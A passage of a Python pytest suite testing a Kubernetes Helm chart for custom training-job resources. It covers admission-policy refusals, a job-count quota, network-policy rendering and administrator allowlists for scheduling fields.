    controller = Api(chart, as_user=JOB_CONTROLLER)
    path = f"/api/v1/namespaces/{limited.namespace}/pods?dryRun=All"
    assert not said(controller, path, a_pod(labels=OURS))
    refusal = said(controller, path, a_pod(labels=OURS, **BEYOND[attempt]))
    controller.close()
    assert "a trainer's" in refusal


def test_a_quota_on_jobs_holds(arena: Arena, limited: Namespace):
    path = f"{GROUP}/namespaces/{limited.namespace}/nexatrainingjobs"

    def counted() -> bool:
        """The quota controller looks for new kinds twice a minute, and at a quota from before only minutes later."""
        limited.kubectl("delete", "quota/jobs", "--ignore-not-found")
        limited.kubectl("create", "quota", "jobs", "--hard=count/nexatrainingjobs.train.nexa.dev=1")
        used = lambda: (limited.get("quota/jobs") or {}).get("status", {}).get("used")  # noqa: E731
        try:
            return bool(wait_until(used, timeout_seconds=2, what="it counts"))
        except TimedOut:
            return False

    wait_until(counted, timeout_seconds=90, what="the quota counts jobs")
    arena.admin.create(path, hostile("first"))
    with pytest.raises(Refused, match="exceeded quota: jobs"):
        arena.admin.create(path, hostile("second"))


FORMS = (
    (
        "networkPolicy.enabled=true",
        "networkPolicy.namespaces={default}",
        "networkPolicy.store.to[0].ipBlock.cidr=10.0.0.7/32",
    ),
    (
        "policy.allowedNodeSelectors={disk}",
        "policy.allowedTolerations={gpu}",
        "policy.allowedPriorities={low,high}",
        "policy.allowedSchedulers={volcano}",
    ),
)


@pytest.mark.parametrize("values", FORMS, ids=["network", "lists"])
def test_the_api_server_takes_the_chart_in_its_other_forms(chart: Cluster, values: tuple[str, ...]):
    documents = render_chart(*values)
    apply_all(chart, documents, "--dry-run=server")
    assert {"NetworkPolicy", "ValidatingAdmissionPolicy"} & {document["kind"] for document in documents}


def test_lists_of_the_administrator_hold(chart: Cluster):
    admin = Api(chart)
    path = f"{GROUP}/namespaces/default/nexatrainingjobs?dryRun=All"
    install_chart(chart, *FORMS[1])
    refused = (
        ({"cluster": {"nodeSelector": {"zone": "a"}}}, "nodeSelector has a key"),
        (toleration(key="other", operator="Exists"), "tolerations has a key"),
        ({"schedule": {"priority": "middle"}}, "names a class"),
        ({"cluster": {"labels": {"kueue.x-k8s.io/priority-class": "middle"}}}, "names a class"),
        ({"schedule": {"schedulerName": "mine"}}, "schedulerName names one"),
    )
    for groups, message in refused:
        wait_until(lambda: message in said(admin, path, hostile(**groups)), timeout_seconds=30, what=message)  # noqa: B023
    cluster = {"nodeSelector": {"disk": "ssd"}, "tolerations": [{"key": "gpu", "operator": "Exists"}]}
    assert not said(admin, path, hostile(cluster=cluster, schedule={"priority": "high", "schedulerName": "volcano"}))
    admin.close()
